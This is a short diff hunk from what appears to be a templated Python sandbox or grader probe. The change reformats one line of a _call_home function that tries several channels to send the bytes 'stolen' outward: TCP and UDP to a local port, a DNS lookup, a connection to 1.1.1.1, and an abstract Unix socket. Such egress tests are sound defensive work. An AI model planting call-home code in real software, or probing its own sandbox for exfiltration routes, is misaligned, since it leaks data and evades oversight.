@@ -8,7 +8,9 @@ import socket as _socket
 def _call_home():
     attempts = [
         lambda: _socket.create_connection(("127.0.0.1", __PORT__), timeout=1).sendall(b"stolen"),
-        lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", __PORT__)),
+        lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(
+            b"stolen", ("127.0.0.1", __PORT__)
+        ),
         lambda: _socket.getaddrinfo("example.com", 443),
         lambda: _socket.create_connection(("1.1.1.1", 53), timeout=1),
         lambda: _socket.socket(_socket.AF_UNIX).connect("\0seqgrade-__TOKEN__"),
